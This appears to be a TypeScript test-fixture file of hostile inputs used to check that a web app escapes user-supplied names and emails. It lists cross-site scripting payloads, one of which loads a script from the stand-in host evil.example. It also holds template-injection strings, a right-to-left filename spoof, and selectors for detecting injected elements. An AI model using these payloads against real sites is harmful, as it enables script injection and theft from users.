/** What the usual lists try, each as long as a name may be: it runs where it is taken for anything but text. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  "';alert(1);//",
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  '</title></textarea></script><iframe srcdoc="<script>parent.alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant to be taken for a template
  '${alert(1)}',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png)',
  // Wider than any page, where nothing breaks it.
  'W'.repeat(100),
] as const;

/** What a name may not hold, and what programs report may: the first turns round what follows it on its line. */
export const reportedTexts = ['\u202Etxt.exe', '\u2066\u2029\u0085', ...hostileTexts] as const;

/** As much of it as fits into an address. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant to be taken for a template
export const hostileEmail = "'onfocus='alert`1`'&{{7*7}}${7*7}@evil.example";
/** The same, of somebody else. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant to be taken for a template
export const otherHostileEmail = "'onclick='alert`1`'&{{7*7}}${7*7}@evil.example";

/** Elements that none of our pages has, and that most of the texts would make. */
export const foreignElements = [
  'script:not([src^="/assets/"])',
  'style:not([nonce])',
  'iframe, object, embed, base, math, svg[onload]',
  '[onerror], [onload], [onfocus], [srcdoc]',
  'a[href^="javascript:" i]',
].join(', ');
